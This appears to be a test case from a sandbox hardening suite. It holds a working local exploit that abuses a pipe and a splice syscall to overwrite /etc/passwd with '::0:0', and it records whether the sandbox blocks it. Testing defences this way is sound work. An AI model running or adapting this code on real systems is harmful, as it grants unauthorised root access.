# attack: write into a system file by way of a pipe that holds its page
# standard: harmless|EPERM
# strict: harmless|EPERM
# alone seccomp-strict: EPERM
with open("/etc/passwd", "rb") as f:
    before = f.read()
fd = os.open("/etc/passwd", os.O_RDONLY)
out, into = os.pipe()
for _ in range(16):
    os.write(into, bytes(4096))
for _ in range(16):
    os.read(out, 4096)
try:
    offset = ctypes.c_int64(4)
    got = raw(275, fd, ctypes.byref(offset), into, 0, 1, 0)
    if got < 0:
        raise OSError(-got, "splice")
    os.write(into, b"::0:0")
    with open("/etc/passwd", "rb") as f:
        outcome("harmless" if f.read() == before else "done")
except OSError as e:
    outcome(word(e.errno))
